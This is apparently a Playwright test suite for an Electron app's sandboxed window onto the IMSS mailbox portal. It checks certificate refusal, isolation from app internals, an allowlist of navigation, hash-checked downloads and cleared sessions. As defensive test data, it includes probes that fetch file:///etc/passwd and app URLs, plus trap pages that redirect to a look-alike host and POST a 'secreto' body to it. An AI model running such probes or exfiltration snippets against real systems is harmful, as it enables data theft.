// Proves that the official site's window holds against its own pages: nothing of ours can be reached from inside, no way leads off the list,
// certificates are never overruled, downloads land byte for byte with their origin or are told.
import { createHash } from 'node:crypto';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { expect, type Page, test } from '@playwright/test';
import hosts from '../../src-shared/data/portal/hosts.json' with { type: 'json' };
import { believe, ELSEWHERE, openStandIn, PORTAL, portalViews, type StandIn } from '../support/portal-stand-in.ts';
import { closeShell, openShell, type Shell, whenReady } from './rig.ts';

test.describe.configure({ mode: 'serial' });

type Ended = {
  readonly name: string;
  readonly how: string;
  readonly path: string;
  readonly address: string;
  readonly page: string;
  readonly sha256: string;
};
type Hooks = {
  acuseTest: { parts: { portalWindow: { open: (o: object) => Promise<void>; close: () => Promise<void> } }; calls: unknown[] };
  ended: Ended[];
};

let shell: Shell;
let standIn: StandIn;
let site: Page;
let bar: Page;
const folder = mkdtempSync(join(tmpdir(), 'acuse-portal-desk-'));

test.beforeAll(async () => {
  standIn = await openStandIn();
  shell = await openShell({ args: standIn.args });
  await whenReady(shell.page);
});
test.afterAll(async () => {
  await closeShell(shell);
  await standIn.close();
  rmSync(folder, { recursive: true, force: true });
});

/** As services do, with a desk that notes what it is told. */
const openPortal = (limitBytes = 1_000_000): Promise<void> =>
  shell.app.evaluate(
    (_electron, given) => {
      const hooks = globalThis as unknown as Hooks;
      hooks.ended ??= [];
      const under = new Map<string, { name: string; path: string; address: string; page: string; sha256: string }>();
      const desk = {
        begin: (d: { name: string; total: number; address: string; page: string; certificate: { sha256: string } | null }) => {
          if (d.total > given.limitBytes) return 'too-big';
          const id = `d${hooks.ended.length}-${under.size}`;
          under.set(id, {
            name: d.name,
            path: `${given.folder}/${id}`,
            address: d.address,
            page: d.page,
            sha256: d.certificate?.sha256 ?? '',
          });
          return { id, path: `${given.folder}/${id}`, limitBytes: given.limitBytes };
        },
        end: async (id: string, how: string) => {
          const one = under.get(id);
          if (one) hooks.ended.push({ ...one, how });
          return how === 'whole' ? 'kept' : how;
        },
      };
      return hooks.acuseTest.parts.portalWindow.open({ hosts: given.hosts, desk });
    },
    { hosts, folder, limitBytes },
  );
const closePortal = () => shell.app.evaluate(() => (globalThis as unknown as Hooks).acuseTest.parts.portalWindow.close());
const ended = () => shell.app.evaluate(() => (globalThis as unknown as Hooks).ended);
const go = (path: string) => site.goto(`${PORTAL}${path}`, { waitUntil: 'commit' });
const elsewhere = () => standIn.asked.filter((each) => !each.startsWith('buzon.imss.gob.mx/'));
const trap = async (body: string): Promise<void> => {
  standIn.traps.set('una', body);
  await go('/trampa/una');
};

test('a certificate that is not trusted is refused and said, with no way past it', async () => {
  await openPortal();
  await expect.poll(() => shell.app.windows().some((each) => each.url().endsWith('/portal-bar.html'))).toBe(true);
  const found = shell.app.windows().find((each) => each.url().endsWith('/portal-bar.html')) as Page;
  await expect(
    found.getByText('No se abrió buzon.imss.gob.mx: su certificado no es de confianza (ERR_CERT_AUTHORITY_INVALID).'),
  ).toBeVisible();
  await expect(found.getByText('Sin certificado a la vista')).toBeVisible();
  expect(await found.getByRole('button').allTextContents()).toEqual(
    expect.not.arrayContaining([expect.stringMatching(/continuar|de todos modos|aceptar/i)]),
  );
  expect(standIn.asked).toEqual([]); // nothing was said to it
  await closePortal();
});

test('it comes up at the front door, with its address and certificate in our bar', async () => {
  await believe(shell.app, standIn);
  await openPortal();
  ({ site, bar } = await portalViews(shell.app));
  await expect(site.getByRole('heading', { name: 'Buzón IMSS' })).toBeVisible();
  await expect(bar.getByText('buzon.imss.gob.mx', { exact: true })).toBeVisible();
  await expect(bar.getByText('/buzonimss/login')).toBeVisible();
  await bar.getByRole('button', { name: /^Certificado: Sitio de prueba/ }).click();
  await expect(bar.getByText(standIn.certificate.sha256.match(/.{1,4}/g)?.join(' ') ?? '')).toBeVisible();
});

test('from inside, a script finds nothing of ours and nothing of Node', async () => {
  const found = await site.evaluate(async () => {
    const own = globalThis as unknown as Record<string, unknown>;
    const names = [
      'acuse',
      'acuseBar',
      'acuseRoom',
      'process',
      'require',
      'module',
      'Buffer',
      'global',
      'ipcRenderer',
      'electron',
      '__dirname',
    ];
    const told: Record<string, unknown> = {
      globals: names.filter((name) => name in own),
      opener: window.opener,
      parent: window.parent === window,
    };
    for (const address of [
      'app://acuse/index.html',
      'app://acuse/portal-bar.html',
      'app://acuse/do/outside',
      'file:///etc/passwd',
      'chrome://gpu/',
      'http://127.0.0.1:9/',
    ])
      told[address] = await fetch(address).then(
        (response) => `reached ${response.status}`,
        () => 'refused',
      );
    for (const permission of ['geolocation', 'notifications', 'camera', 'microphone', 'clipboard-read'])
      told[permission] = await navigator.permissions.query({ name: permission as PermissionName }).then(
        ({ state }) => state,
        () => 'refused',
      );
    told.where = await new Promise((resolve) =>
      navigator.geolocation.getCurrentPosition(
        () => resolve('told'),
        () => resolve('refused'),
      ),
    );
    told.camera = await (navigator.mediaDevices?.getUserMedia({ video: true }).then(
      () => 'given',
      () => 'refused',
    ) ?? 'refused');
    told.agent = navigator.userAgent;
    return told;
  });
  expect(found).toMatchObject({
    globals: [],
    opener: null,
    parent: true,
    'app://acuse/index.html': 'refused',
    'app://acuse/portal-bar.html': 'refused',
    'app://acuse/do/outside': 'refused',
    'file:///etc/passwd': 'refused',
    'chrome://gpu/': 'refused',
    'http://127.0.0.1:9/': 'refused',
    where: 'refused',
    camera: 'refused',
  });
  for (const permission of ['geolocation', 'notifications', 'camera', 'microphone', 'clipboard-read'])
    expect(found[permission], permission).not.toBe('granted');
  expect(found.agent).not.toMatch(/electron|acuse/i);
  const made = await shell.app.evaluate(({ webContents }) => {
    const one = webContents.getAllWebContents().find((each) => each.getURL().startsWith('https://'));
    const wishes = (one as unknown as { getLastWebPreferences: () => Record<string, unknown> }).getLastWebPreferences();
    return {
      preload: wishes.preload ?? null,
      sandbox: wishes.sandbox,
      contextIsolation: wishes.contextIsolation,
      nodeIntegration: wishes.nodeIntegration,
      persistent: one?.session.isPersistent(),
      calls: (globalThis as unknown as Hooks).acuseTest.calls.length,
    };
  });
  expect(made).toMatchObject({ preload: null, sandbox: true, contextIsolation: true, nodeIntegration: false, persistent: false });
});

const WAYS: readonly { readonly way: string; readonly body: string; readonly said: RegExp }[] = [
  { way: 'a link', body: `<a id=x href="${ELSEWHERE}/">x</a><script>x.click()</script>`, said: /No se fue a buzon-imss\.example/ },
  { way: 'a script', body: `<script>location.href="${ELSEWHERE}/"</script>`, said: /No se fue a buzon-imss\.example/ },
  {
    way: 'a redirect',
    body: `<script>location.href="/manda/?a=${encodeURIComponent(`${ELSEWHERE}/`)}"</script>`,
    said: /quiso mandarle a buzon-imss\.example/,
  },
  { way: 'window.open', body: `<script>open("${ELSEWHERE}/")</script>`, said: /quiso abrir otra ventana en buzon-imss\.example/ },
  {
    way: 'a link to a new window',
    body: `<a id=x target=_blank href="${ELSEWHERE}/">x</a><script>x.click()</script>`,
    said: /otra ventana en buzon-imss\.example/,
  },
  {
    way: 'a form',
    body: `<form id=f method=post action="${ELSEWHERE}/"><input name=a></form><script>f.submit()</script>`,
    said: /No se fue a buzon-imss\.example/,
  },
  { way: 'meta refresh', body: `<meta http-equiv=refresh content="0;url=${ELSEWHERE}/">`, said: /No se fue a buzon-imss\.example/ },
  { way: 'an iframe', body: `<iframe src="${ELSEWHERE}/"></iframe>`, said: /mostrar dentro de ella algo de buzon-imss\.example/ },
  {
    way: 'a redirect in an iframe',
    body: `<iframe src="/manda/?a=${encodeURIComponent(`${ELSEWHERE}/`)}"></iframe>`,
    said: /mostrar dentro de ella algo de buzon-imss\.example/,
  },
  { way: 'plain http', body: '<script>location.href="http://buzon.imss.gob.mx/"</script>', said: /No se fue a buzon\.imss\.gob\.mx/ },
  {
    way: 'another port',
    body: '<script>location.href="https://buzon.imss.gob.mx:8443/"</script>',
    said: /No se fue a buzon\.imss\.gob\.mx/,
  },
  {
    way: 'a name before the host',
    body: '<script>location.href="https://a@buzon.imss.gob.mx/"</script>',
    said: /No se fue a una dirección que no es de un sitio/,
  },
  {
    way: 'a page of ours',
    body: '<script>location.href="app://acuse/index.html"</script>',
    said: /No se fue a una dirección que no es de un sitio/,
  },
  {
    way: 'another program',
    body: '<script>location.href="mailto:a@b.c"</script>',
    said: /No se fue a una dirección que no es de un sitio/,
  },
  {
    way: 'a download',
    body: `<a id=x download href="/manda/?a=${encodeURIComponent(`${ELSEWHERE}/f.bin`)}">x</a><script>x.click()</script>`,
    said: /buzon-imss\.example/,
  },
];
for (const { way, body, said } of WAYS)
  test(`leaving the list is refused and said: ${way}`, async () => {
    await trap(body);
    await expect(bar.getByText(said).first()).toBeVisible();
    expect(site.url()).toBe(`${PORTAL}/trampa/una`);
    expect(elsewhere()).toEqual([]);
    const close = bar.getByRole('button', { name: 'Entendido' });
    await close.click();
    await expect(close).toBeHidden();
  });

test('what was refused opens in the person’s own browser only when the person says so', async () => {
  await shell.app.evaluate(({ shell: desktop }) => {
    const seen = globalThis as unknown as { outside: string[] };
    seen.outside = [];
    desktop.openExternal = async (address: string) => void seen.outside.push(address);
  });
  const outside = () => shell.app.evaluate(() => (globalThis as unknown as { outside: string[] }).outside);
  await trap(`<script>location.href="${ELSEWHERE}/x"; location.href="mailto:a@b.c"</script>`);
  await trap(`<script>location.href="${ELSEWHERE}/y"</script>`);
  await expect(bar.getByText(/No se fue a buzon-imss/)).toBeVisible();
  expect(await outside()).toEqual([]);
  await bar.getByRole('button', { name: 'Abrir buzon-imss.example en mi navegador' }).click();
  await expect.poll(outside).toEqual([`${ELSEWHERE}/y`]);
});

test('parts of other sites are not loaded, and their hosts are named', async () => {
  await trap(
    `<script src="${ELSEWHERE}/a.js"></script><img src="${ELSEWHERE}/b.png"><script>fetch("${ELSEWHERE}/c",{method:"POST",body:"secreto"}).catch(()=>0);try{new WebSocket("wss://buzon-imss.example/d")}catch{}</script>`,
  );
  await expect(bar.getByText('No se cargaron partes de 1 sitio que no está en la lista: buzon-imss.example.')).toBeVisible();
  expect(elsewhere()).toEqual([]);
});

test('a window asked for on the list goes on in this one; there are never two', async () => {
  await trap('<script>open("/notificaciones")</script>');
  await expect(site.getByRole('heading', { name: 'Pendientes de notificar' })).toBeVisible();
  expect(await shell.app.evaluate(({ BaseWindow }) => BaseWindow.getAllWindows().length)).toBe(2);
});

test('downloads land byte for byte, with address, page and certificate', async () => {
  const bytes = Buffer.from(Array.from({ length: 300_000 }, (_unused, n) => (n * 31) % 251));
  standIn.files.set('acto.bin', { bytes, type: 'application/octet-stream' });
  standIn.files.set('acto.pdf', { bytes: Buffer.from('%PDF-1.4\n%%EOF\n'), type: 'application/pdf', inline: true });
  await go('/acuse');
  await site.getByRole('link', { name: 'Descargar acto.bin' }).click();
  await expect(bar.getByText('acto.bin', { exact: true })).toBeVisible();
  // A PDF that the site would show is brought as well, and the page stays.
  await site.getByRole('link', { name: 'Descargar acto.pdf' }).click();
  await expect.poll(async () => (await ended()).map(({ name, how }) => `${name} ${how}`)).toEqual(['acto.bin whole', 'acto.pdf whole']);
  for (const one of await ended()) {
    const sent = standIn.files.get(one.name)?.bytes ?? Buffer.alloc(0);
    expect(createHash('sha256').update(readFileSync(one.path)).digest('hex'), one.name).toBe(
      createHash('sha256').update(sent).digest('hex'),
    );
    expect(one).toMatchObject({ address: `${PORTAL}/descarga/${one.name}`, page: `${PORTAL}/acuse`, sha256: standIn.certificate.sha256 });
  }
  expect(site.url()).toBe(`${PORTAL}/acuse`);
  // What a page makes up itself has no address of its own: it comes as a file, and the page it was made on is its origin.
  await site.evaluate(() => {
    location.href = URL.createObjectURL(new Blob(['%PDF-1.4 hecho aquí'], { type: 'application/pdf' }));
  });
  await expect.poll(async () => (await ended()).at(-1)).toMatchObject({ how: 'whole', address: `${PORTAL}/acuse` });
  expect(site.url()).toBe(`${PORTAL}/acuse`);
});

test('what does not come whole is told: cut, too large, cancelled by hand and with the window', async () => {
  await go('/acuse');
  const start = (path: string) => site.evaluate((to) => location.assign(to), path);
  await start('/rota');
  await expect.poll(async () => (await ended()).at(-1)).toMatchObject({ name: 'rota.bin', how: 'cut' });
  await start('/enorme');
  await expect(bar.getByText('Demasiado grande: no se guardó. Ábralo en su navegador si lo necesita.', { exact: true })).toBeVisible();
  await start('/lenta');
  await bar.getByRole('button', { name: 'Cancelar «lenta.bin»' }).click();
  await expect.poll(async () => (await ended()).at(-1)).toMatchObject({ name: 'lenta.bin', how: 'cancelled' });
  await start('/lenta');
  await expect(bar.getByRole('button', { name: 'Cancelar «lenta.bin»' })).toBeVisible();
  await closePortal();
  expect((await ended()).at(-1)).toMatchObject({ name: 'lenta.bin', how: 'closed' });
  await expect
    .poll(() =>
      shell.app.evaluate(({ webContents }) => webContents.getAllWebContents().filter((each) => each.getURL().startsWith('https:')).length),
    )
    .toBe(0);
});

test('nothing of one visit is there in the next', async () => {
  await openPortal();
  ({ site, bar } = await portalViews(shell.app));
  await site.evaluate(() => {
    // biome-ignore lint/suspicious/noDocumentCookie: what a site does
    document.cookie = 'sesion=1; secure; max-age=9999';
    localStorage.setItem('sesion', '1');
  });
  await closePortal();
  await openPortal();
  ({ site, bar } = await portalViews(shell.app));
  await expect(site.getByRole('heading', { name: 'Buzón IMSS' })).toBeVisible();
  expect(await site.evaluate(() => [document.cookie, localStorage.length])).toEqual(['', 0]);
  // The mailbox window was never part of it.
  expect(shell.page.url()).toBe('app://acuse/index.html');
});
